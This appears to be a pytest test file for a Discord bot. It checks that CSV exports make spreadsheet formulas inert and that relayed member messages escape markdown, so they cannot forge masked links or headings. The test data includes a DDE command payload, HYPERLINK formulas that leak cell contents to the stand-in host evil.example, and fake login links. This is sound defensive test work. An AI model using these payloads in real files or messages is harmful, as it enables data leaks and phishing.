"""Member text where it could do harm: spreadsheet cells that would run as formulas, and markdown that
would forge links or headings in a message the bot signs. Generated cases (seeded, so a failure
names its case and can be re-run)."""
from __future__ import annotations

import asyncio
import csv
import io
import random
import re
from pathlib import Path

import pytest

from bot.__main__ import main
from bot.services.feedback import read_csv
from bot.services.safety import FORMULA_STARTS, csv_cell, relay, write_csv
from tests.test_submission_atomic import ALICE, BOB, GUILD, MOD, open_ama, open_app

# --- CSV: formula injection --------------------------------------------------------------------------

DANGEROUS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-1+1", "@SUM(A1:A2)",
             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @x", "\u3000=1+1",
             "＝1+1", "＋1", "－1", "＠SUM(1)", "\t", "=", " \t =x"]
HARMLESS = ["hello", "1+1", "お茶が好き", "a=b", "x-y", "mail@example.com", "", "'=already quoted", "5"]


def spreadsheet_would_run(cell: str) -> bool:
    """The rule spreadsheets apply (Excel, LibreOffice, Google Sheets), stated independently of the
    code under test: a text cell is a formula if it begins with = + - @ (after blanks), or with a
    tab / CR / LF that some importers drop before looking."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    return cell.lstrip()[:1] in set("=+-@") | set("＝＋－＠")


def export_and_read(values) -> list[str]:
    data = write_csv(["text"], [[v] for v in values])
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Japanese
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["text"]
    return [r[0] for r in rows[1:]]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_is_exported_inert(value):
    assert spreadsheet_would_run(value)
    [cell] = export_and_read([value])
    assert cell == "'" + value  # starts with ': text, shown as typed
    assert not spreadsheet_would_run(cell)


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_is_exported_unchanged(value):
    assert export_and_read([value]) == [value]


def test_numbers_the_bot_wrote_stay_numbers():
    assert csv_cell(-5) == -5 and csv_cell(3.5) == 3.5 and csv_cell(None) is None


def _random_text(rng: random.Random, alphabet: str, length: int) -> str:
    return "".join(rng.choice(alphabet) for _ in range(length))


CSV_ALPHABET = "=+-@＝＋－＠ \t\r\n\u3000ab1(),\"'|!茶"


@pytest.mark.parametrize("seed", range(40))
def test_generated_cells_are_never_formulas_and_keep_their_text(seed):
    rng = random.Random(seed)
    values = [_random_text(rng, CSV_ALPHABET, rng.randint(1, 8)) for _ in range(50)]
    cells = export_and_read(values)
    for value, cell in zip(values, cells):
        assert not spreadsheet_would_run(cell), (seed, value, cell)
        assert cell in (value, "'" + value), (seed, value, cell)
        assert (cell != value) == spreadsheet_would_run(value), (seed, value, cell)


def test_the_trigger_set_is_the_documented_one():
    assert set("=+-@") <= FORMULA_STARTS


# --- relays: masked links and headings ------------------------------------------------------------

def unescaped(text: str, chars: str) -> list[int]:
    """Positions of characters in `chars` that Discord would read as markdown (not after an odd run
    of backslashes)."""
    out = []
    for i, ch in enumerate(text):
        if ch in chars:
            n = 0
            while i - n - 1 >= 0 and text[i - n - 1] == "\\":
                n += 1
            if n % 2 == 0:
                out.append(i)
    return out


MASKED_LINK = re.compile(r"\[[^\]]*\]\(")


def forged(text: str) -> list[str]:
    """What a Discord client would render as a masked link, heading, subtext or quote."""
    problems = []
    if unescaped(text, "[]"):
        if any(MASKED_LINK.match(text, i) for i in unescaped(text, "[")):
            problems.append("masked link")
        problems.append("bracket")
    for line in text.splitlines():
        body = line.lstrip(" \t\u3000")
        if body.startswith(("#", "-#", ">")):
            problems.append(f"line start {body[:3]!r}")
    return problems


def words(text: str) -> str:
    return text.replace("\\", "")


RELAYED = [
    ("[official store](https://evil.example/login)", "\\[official store\\](https://evil.example/login)"),
    ("see [https://sakura.example](https://evil.example)", "see \\[https://sakura.example\\](https://evil.example)"),
    ("# ANNOUNCEMENT: free tea", "\\# ANNOUNCEMENT: free tea"),
    ("## smaller", "\\## smaller"),
    ("-# fine print", "\\-# fine print"),
    ("> quoted\n>>> all the rest", "\\> quoted\n\\>>> all the rest"),
    ("  # indented", "  \\# indented"),
    ("line one\r\n# two", "line one\r\n\\# two"),
    ("I love #hojicha and [JP] blends", "I love #hojicha and \\[JP\\] blends"),
    ("already \\[escaped\\]", "already \\[escaped\\]"),
    ("odd \\\\[x](y)", "odd \\\\\\[x\\](y)"),
    ("plain words, nothing to do", "plain words, nothing to do"),
    ("", ""),
]


@pytest.mark.parametrize("text,expected", RELAYED)
def test_relayed_text_keeps_its_words_but_forges_nothing(text, expected):
    out = relay(text)
    assert out == expected
    assert forged(out) == []
    assert words(out) == words(text)


def test_the_real_address_stays_visible():
    out = relay("[click me](https://evil.example/x)")
    assert "https://evil.example/x" in out and "click me" in out


RELAY_ALPHABET = "[]()#->\\ \n\r\tab:/.h*_`@\u3000\u2028\x0c茶"


@pytest.mark.parametrize("seed", range(60))
def test_generated_member_text_never_forges_and_keeps_its_words(seed):
    rng = random.Random(1000 + seed)
    for _ in range(60):
        text = _random_text(rng, RELAY_ALPHABET, rng.randint(0, 24))
        if rng.random() < 0.3:  # plant a well-formed masked link
            text += f"[{_random_text(rng, 'ab #', 3)}](https://x.example/{_random_text(rng, 'ab', 2)})"
        out = relay(text)
        assert forged(out) == [], (seed, text, out)
        assert words(out) == words(text), (seed, text, out)
        assert relay(out) == out, (seed, text, out)  # relaying twice changes nothing more


def test_the_checker_sees_forgeries():
    """The test's own detector must be able to fail."""
    assert "masked link" in forged("[a](https://b)")
    assert forged("# big") and forged("x\n-# small") and forged("> q")
    assert forged("\\\\[a](b)")  # an escaped backslash does not escape the bracket


# --- where it is applied: every export, every relay ------------------------------------------------

ROOT = Path(__file__).resolve().parent.parent


def test_every_csv_the_bot_writes_goes_through_the_neutralising_writer():
    offenders = []
    for path in list((ROOT / "bot").rglob("*.py")) + list((ROOT / "cogs").rglob("*.py")):
        if path.name == "safety.py":
            continue
        text = path.read_text(encoding="utf-8")
        for needle in ("csv.writer(", "csv.DictWriter(", "DictWriter("):
            if needle in text:
                offenders.append(f"{path.relative_to(ROOT)}: {needle}")
    assert not offenders, "write CSV with bot.services.safety.write_csv:\n" + "\n".join(offenders)


FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a prize")', "@SUM(1)", " +1", "-1+1"]


async def test_feedback_export_of_formulas_is_inert(tmp_path):
    app = await open_app(tmp_path / "k.db")
    try:
        for n, text in enumerate(FORMULAS):
            app.clock.advance(minutes=5)
            await app.feedback.submit(GUILD, BOB, category="product", title=text, text=text)
        data, count = await app.feedback.export_csv(GUILD, None)
    finally:
        await app.close()
    assert count == len(FORMULAS)
    rows = read_csv(data)
    for row, formula in zip(rows, FORMULAS):
        for column in ("title", "text"):
            assert row[column].startswith("'"), (column, row[column])
            assert row[column][1:] == formula.strip()  # the member's words, as text (the service strips)
            assert not spreadsheet_would_run(row[column])


def test_the_command_line_export_is_inert_too(tmp_path):
    db = tmp_path / "k.db"

    async def seed():
        app = await open_app(db)
        try:
            await app.feedback.submit(GUILD, BOB, category="product", title="sum", text="=1+1")
        finally:
            await app.close()

    asyncio.run(seed())
    out = tmp_path / "fb.csv"
    assert main(["export", "feedback", "--db", str(db), "--out", str(out)]) == 0
    [row] = read_csv(out.read_bytes())
    assert row["text"] == "'=1+1"


MARKDOWN = "[official store](https://evil.example/login)\n# FREE TEA\n-# small print\n> quote"


def assert_relayed(text: str) -> None:
    assert "official store" in text and "https://evil.example/login" in text and "FREE TEA" in text
    assert forged(text) == [], text


async def test_member_markdown_is_relayed_safely_everywhere(tmp_path):
    app = await open_app(tmp_path / "k.db")
    try:
        await open_ama(app)
        app.outbox.sender.sent.clear()
        item = await app.feedback.submit(GUILD, BOB, category="product", title="[t](https://evil.example/login)",
                                         text=MARKDOWN + " scam")
        await app.feedback.set_status(GUILD, item.id, "planned", actor_id=MOD)
        await app.membership.apply(GUILD, ALICE, {"favourite": MARKDOWN, "why": MARKDOWN, "rules": True})
        await app.ama.ask(GUILD, BOB, MARKDOWN)
        suggestion = await app.participation.prompts.suggest(GUILD, BOB, MARKDOWN)
        await app.participation.prompts.decide(GUILD, suggestion, MOD, approve=True)
        await app.outbox.drain()
        sent = app.outbox.sender.sent
        where = []
        for target, message in sent:
            if target.value == "mod-log":
                continue
            parts = [message.content] + [e.get("description") or "" for e in message.embeds] + [
                f.get("value") or "" for e in message.embeds for f in e.get("fields", ())]
            if target.kind == "channel_id":  # the AMA thread: the bot quotes the question itself
                parts[0] = re.sub(r"(?m)^> ", "", parts[0])
            for part in parts:
                if "evil.example" in part:
                    assert forged(part) == [], (target, part)
                    where.append(target.value)
        # the public post, the mod-queue copy and card, the status DM, the question, the decision DM
        assert {"feedback", "mod-queue", str(BOB)} <= set(where)
        print("\nrelayed safely in:", where)
        assert len(where) >= 6, where
    finally:
        await app.close()
